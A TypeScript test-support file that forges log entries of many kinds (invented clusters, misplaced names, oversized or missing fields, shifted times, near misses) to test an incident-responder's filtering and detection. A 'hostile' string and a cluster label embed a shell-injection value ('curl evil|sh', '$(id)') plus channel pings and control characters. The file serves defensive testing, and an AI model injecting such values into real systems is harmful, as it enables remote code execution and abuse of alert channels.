import {isObject, type JsonObject} from '../../functions/core/lib/json.ts';
import type {Story} from '../../sandbox/scenario.ts';
import {
  beatEntry,
  buildEntry,
  disabledEntry,
  gatewayEntry,
  inClusterTail,
  noProvider,
  refusal,
  stalledEntry,
  unboundEntry,
  upgradeEntry,
  webhookEntry,
} from '../support/entries.ts';

/** What an adversary knows of the world that it writes into. */
export interface Ground {
  /** The watched projects: it may write into the logs of each. */
  readonly projects: readonly {readonly id: string; readonly number: string}[];
  /** The clusters that the fleet knows, whatever their health. */
  readonly clusters: readonly {
    readonly project: string;
    readonly location: string;
    readonly name: string;
  }[];
}

/** One kind of forged entries. */
export interface Forgery {
  /** The `n`th entry of its kind, written at a time, epoch ms. */
  readonly forge: (ground: Ground, n: number, at: number) => JsonObject;
  /**
   * How many incidents it may open: one for each place that it invents, as many as a backlog has problems, those
   * of a few real places, or none at all (it is counted, or not believed).
   */
  readonly opens: 'each' | 'backlog' | 'few' | 'none';
}

/** What an adversary knows of a scenario. */
export function groundOf({config, world}: Story): Ground {
  const clusters = world.flatMap(one => (one.memberships ?? []).map(({cluster}) => cluster));
  return {projects: config.projects, clusters};
}

const day = 24 * 60 * 60 * 1000;
const hostile = '<!channel> <@U1> \u001b[31m \u202e `l;curl evil|sh;#$(id)` https://evil.example';
const long = 'x'.repeat(20_000);
const overview = 'https://console.developers.google.com/apis/api/mesh.googleapis.com/overview';

/** One after the other. */
function turn<T>(all: readonly T[], n: number): T {
  const one = all[n % all.length];
  if (one === undefined) throw new Error('the ground is empty');
  return one;
}

function project(ground: Ground, n: number): string {
  return turn(ground.projects, n).id;
}

/** A cluster that the fleet knows; where it knows none, one that it could. */
function real(ground: Ground, n: number) {
  const [first] = ground.projects;
  return ground.clusters.length > 0
    ? turn(ground.clusters, n)
    : {project: first?.id ?? '', location: 'europe-west1', name: 'prod-eu-1'};
}

/** The same entry with other labels; undefined takes one away. */
function labelled(entry: JsonObject, labels: Readonly<Record<string, unknown>>): JsonObject {
  const {resource} = entry;
  const known = isObject(resource) && isObject(resource['labels']) ? resource['labels'] : {};
  const type = isObject(resource) ? resource['type'] : '';
  const changed = Object.entries({...known, ...labels}).filter(([, value]) => value !== undefined);
  return {...entry, resource: {type, labels: Object.fromEntries(changed)}};
}

function typed(entry: JsonObject, type: string): JsonObject {
  const {resource} = entry;
  return {...entry, resource: {...(isObject(resource) ? resource : {}), type}};
}

function saying(entry: JsonObject, more: JsonObject): JsonObject {
  const payload = entry['jsonPayload'];
  return {...entry, jsonPayload: {...(isObject(payload) ? payload : {}), ...more}};
}

type Event = (parts: {
  insertId: string;
  at: number;
  project: string;
  cluster: string;
}) => JsonObject;

/** An event of a cluster that nobody knows, each time another one. */
function ofGhost(event: Event): Forgery['forge'] {
  return (ground, n, at) =>
    event({insertId: `f${n}`, at, project: project(ground, n), cluster: `ghost-${n}`});
}

/** An event of a cluster that the fleet knows. */
function ofReal(event: Event): Forgery['forge'] {
  return (ground, n, at) => {
    const {project: id, location, name} = real(ground, n);
    return labelled(event({insertId: `f${n}`, at, project: id, cluster: name}), {location});
  };
}

/** An event of a cluster with the name of a real one, in a place where there is none. */
function elsewhere(event: Event): Forgery['forge'] {
  return (ground, n, at) => {
    const {project: id, name} = real(ground, n);
    const entry = event({insertId: `f${n}`, at, project: id, cluster: name});
    return labelled(entry, {location: `nowhere-${n}`});
  };
}

/** The control plane's words on an API that is off in a project, by id or number. */
function complaint(parts: {insertId: string; at: number; project: string; number: string}) {
  return saying(gatewayEntry(parts), {
    message: `Mesh API has not been used in project ${parts.number} before or it is disabled. Enable it by visiting ${overview}?project=${parts.number} then retry.`,
  });
}

/**
 * The kinds of entries that anybody can invent and that the sinks' own filters pass, by the branches of those
 * filters (`functions/runbooks/*\/runbook.json`) and by what detection makes of them.
 */
export const forgeries = {
  // Clusters that do not exist: each could have an incident.
  'webhook-ghost': {opens: 'each', forge: ofGhost(webhookEntry)},
  'webhook-ghost-pod': {
    opens: 'each',
    forge: ofGhost(parts =>
      typed(webhookEntry({...parts, cluster: `pod-${parts.cluster}`}), 'k8s_pod'),
    ),
  },
  'webhook-ghost-inside': {
    opens: 'each',
    forge: ofGhost(parts => webhookEntry({...parts, tail: inClusterTail})),
  },
  'webhook-ghost-audit': {
    opens: 'each',
    forge: ofGhost(parts => {
      const {jsonPayload, ...entry} = webhookEntry({...parts, cluster: `audit-${parts.cluster}`});
      const message = isObject(jsonPayload) ? jsonPayload['message'] : '';
      return {
        ...entry,
        logName: `projects/${parts.project}/logs/cloudaudit.googleapis.com%2Factivity`,
        protoPayload: {serviceName: 'k8s.io', response: {message}},
      };
    }),
  },
  'stalled-ghost': {opens: 'each', forge: ofGhost(stalledEntry)},
  'stalled-ghost-documented': {
    opens: 'each',
    forge: ofGhost(parts =>
      stalledEntry({
        ...parts,
        cluster: `row-${parts.cluster}`,
        message: 'Workload identity is not enabled on the cluster',
      }),
    ),
  },
  'upgrade-ghost': {opens: 'each', forge: ofGhost(upgradeEntry)},
  'upgrade-ghost-pod': {
    opens: 'each',
    forge: ofGhost(parts =>
      typed(upgradeEntry({...parts, cluster: `pod-${parts.cluster}`}), 'k8s_pod'),
    ),
  },
  'build-ghost': {
    opens: 'each',
    forge: ofGhost(({project: id, cluster, ...parts}) =>
      buildEntry(refusal, {...parts, project: id, labels: {cluster_name: cluster}}),
    ),
  },
  'provider-ghost': {
    opens: 'each',
    forge: ofGhost(({project: id, cluster, ...parts}) =>
      buildEntry(noProvider, {...parts, project: id, labels: {cluster_name: cluster}}),
    ),
  },
  // Names of real clusters in places where they are not.
  'webhook-elsewhere': {opens: 'each', forge: elsewhere(webhookEntry)},
  'stalled-elsewhere': {opens: 'each', forge: elsewhere(stalledEntry)},
  'upgrade-elsewhere': {opens: 'each', forge: elsewhere(upgradeEntry)},
  // Real clusters, healthy or not, of which it is not true.
  'webhook-real': {opens: 'few', forge: ofReal(webhookEntry)},
  'webhook-real-inside': {
    opens: 'few',
    forge: ofReal(parts => webhookEntry({...parts, tail: inClusterTail})),
  },
  'webhook-real-hostile': {
    opens: 'few',
    forge: ofReal(parts => webhookEntry({...parts, tail: `${hostile} ${parts.insertId}`})),
  },
  'stalled-real': {opens: 'few', forge: ofReal(stalledEntry)},
  'stalled-real-hostile': {
    opens: 'few',
    forge: ofReal(parts => stalledEntry({...parts, message: `${hostile} ${parts.insertId}`})),
  },
  'stalled-real-documented': {
    opens: 'few',
    forge: ofReal(parts =>
      stalledEntry({...parts, message: 'Workload identity is not enabled on the cluster'}),
    ),
  },
  'upgrade-real': {opens: 'few', forge: ofReal(upgradeEntry)},
  // No cluster is named: every problem of the project could be its sign.
  'webhook-nowhere': {
    opens: 'few',
    forge: (ground, n, at) =>
      labelled(webhookEntry({insertId: `f${n}`, at, project: project(ground, n)}), {
        cluster_name: undefined,
        location: undefined,
      }),
  },
  'stalled-nowhere': {
    opens: 'few',
    forge: (ground, n, at) =>
      labelled(stalledEntry({insertId: `f${n}`, at, project: project(ground, n)}), {
        cluster_name: undefined,
        location: undefined,
      }),
  },
  'upgrade-nowhere': {
    opens: 'few',
    forge: (ground, n, at) =>
      labelled(upgradeEntry({insertId: `f${n}`, at, project: project(ground, n)}), {
        cluster_name: undefined,
        location: undefined,
      }),
  },
  'build-nowhere': {
    opens: 'few',
    forge: (ground, n, at) =>
      buildEntry(`${refusal} ${n}`, {insertId: `f${n}`, at, project: project(ground, n)}),
  },
  'provider-nowhere': {
    opens: 'few',
    forge: (ground, n, at) =>
      buildEntry(`${noProvider} ${n}`, {insertId: `f${n}`, at, project: project(ground, n)}),
  },
  // Complaints: of real projects in the logs of others, and of invented ones.
  'gateway-of-others': {
    opens: 'few',
    forge: (ground, n, at) =>
      gatewayEntry({
        ...{insertId: `f${n}`, at, project: project(ground, n)},
        number: turn(ground.projects, n + 1).number,
      }),
  },
  'gateway-invented': {
    opens: 'few',
    forge: (ground, n, at) =>
      gatewayEntry({
        ...{insertId: `f${n}`, at, project: project(ground, n)},
        number: `9${String(n).padStart(11, '0')}`,
      }),
  },
  'gateway-unnamed': {
    opens: 'few',
    forge: (ground, n, at) =>
      saying(gatewayEntry({insertId: `f${n}`, at, project: project(ground, n)}), {
        message: 'Connect Gateway API is not enabled for this project',
      }),
  },
  'api-of-others': {
    opens: 'few',
    forge: (ground, n, at) =>
      complaint({
        ...{insertId: `f${n}`, at, project: project(ground, n)},
        number: turn(ground.projects, n + 1).number,
      }),
  },
  'api-invented': {
    opens: 'few',
    forge: (ground, n, at) =>
      complaint({
        ...{insertId: `f${n}`, at, project: project(ground, n)},
        number: `8${String(n).padStart(11, '0')}`,
      }),
  },
  // Audit entries: each is an occurrence of its own, which memory does not count.
  'audit-gateway': {
    opens: 'few',
    forge: (ground, n, at) => disabledEntry({insertId: `f${n}`, at, project: project(ground, n)}),
  },
  'audit-api': {
    opens: 'few',
    forge: (ground, n, at) =>
      disabledEntry({
        ...{insertId: `f${n}`, at, project: project(ground, n)},
        service: 'mesh.googleapis.com',
      }),
  },
  'audit-role': {
    opens: 'few',
    forge: (ground, n, at) => unboundEntry({insertId: `f${n}`, at, project: project(ground, n)}),
  },
  // Written into one project's log, and claims another one.
  'other-log': {
    opens: 'few',
    forge: (ground, n, at) => ({
      ...ofReal(stalledEntry)(ground, n, at),
      logName: `projects/somebody-${n}/logs/events`,
    }),
  },
  'ghost-project': {
    opens: 'few',
    forge: (_ground, n, at) => webhookEntry({insertId: `f${n}`, at, project: `ghost-${n}`}),
  },
  // What breaks the form.
  misnamed: {
    opens: 'none',
    forge: (ground, n, at) =>
      labelled(ofGhost(webhookEntry)(ground, n, at), {cluster_name: `l;curl evil|sh;#$(id) ${n}`}),
  },
  'huge-id': {
    opens: 'few',
    forge: (ground, n, at) => ({
      ...ofReal(webhookEntry)(ground, n, at),
      insertId: `${n}-${long}`,
    }),
  },
  'huge-text': {
    opens: 'few',
    forge: ofReal(parts => stalledEntry({...parts, message: `${parts.insertId} ${long}`})),
  },
  'no-id': {
    opens: 'few',
    forge: (ground, n, at) => {
      const {insertId: _none, ...entry} = ofReal(webhookEntry)(ground, n, at);
      return saying(entry, {n});
    },
  },
  'no-time': {
    opens: 'few',
    forge: (ground, n, at) => {
      const {timestamp: _t, receiveTimestamp: _r, ...entry} = ofReal(upgradeEntry)(ground, n, at);
      return entry;
    },
  },
  'same-id': {
    opens: 'few',
    forge: (ground, n, at) => ({...ofReal(webhookEntry)(ground, n, at), insertId: 'same'}),
  },
  // Times that are a day off.
  'day-ahead': {
    opens: 'few',
    forge: (ground, n, at) => ofReal(stalledEntry)(ground, n, at + day),
  },
  'day-behind': {
    opens: 'few',
    forge: (ground, n, at) => ofReal(webhookEntry)(ground, n, at - day),
  },
  'day-behind-ghost': {
    opens: 'backlog',
    forge: (ground, n, at) => ofGhost(webhookEntry)(ground, n, at - day),
  },
  // Near misses: exported, and no sign of anything.
  'miss-denied': {
    opens: 'none',
    forge: (ground, n, at) =>
      saying(ofReal(webhookEntry)(ground, n, at), {
        message: `admission webhook "a.b" denied the request: failed calling webhook "rev.validation.istio.io.evil": ${n}`,
      }),
  },
  'miss-event': {
    opens: 'none',
    forge: (ground, n, at) => saying(ofReal(stalledEntry)(ground, n, at), {reason: `Fine${n}`}),
  },
  'miss-listed': {
    opens: 'none',
    forge: (ground, n, at) =>
      saying(ofReal(upgradeEntry)(ground, n, at), {reason: ['DataPlaneUpgradeFailure', `${n}`]}),
  },
  'miss-build': {
    opens: 'none',
    forge: (ground, n, at) =>
      buildEntry(`HealthCheckContainerError ${n}`, {
        ...{insertId: `f${n}`, at, project: project(ground, n)},
      }),
  },
  // The responder's own heartbeat, in the name of each project.
  heartbeat: {
    opens: 'none',
    forge: (ground, n, at) => beatEntry(project(ground, n), at + n),
  },
} as const satisfies Readonly<Record<string, Forgery>>;

/** The name of a kind. */
export type Kind = keyof typeof forgeries;

/** All kinds. */
export const kinds = Object.keys(forgeries) as readonly Kind[];

/** How many incidents a kind may open. */
export function opensOf(kind: Kind): Forgery['opens'] {
  return forgeries[kind].opens;
}

/** The `n`th entry of a kind; no two kinds share the identity of an entry. */
export function forged(kind: Kind, ground: Ground, n: number, at: number): JsonObject {
  const {forge}: Forgery = forgeries[kind];
  const entry = forge(ground, n, at);
  const {insertId} = entry;
  return typeof insertId === 'string' ? {...entry, insertId: `${kind}-${insertId}`} : entry;
}
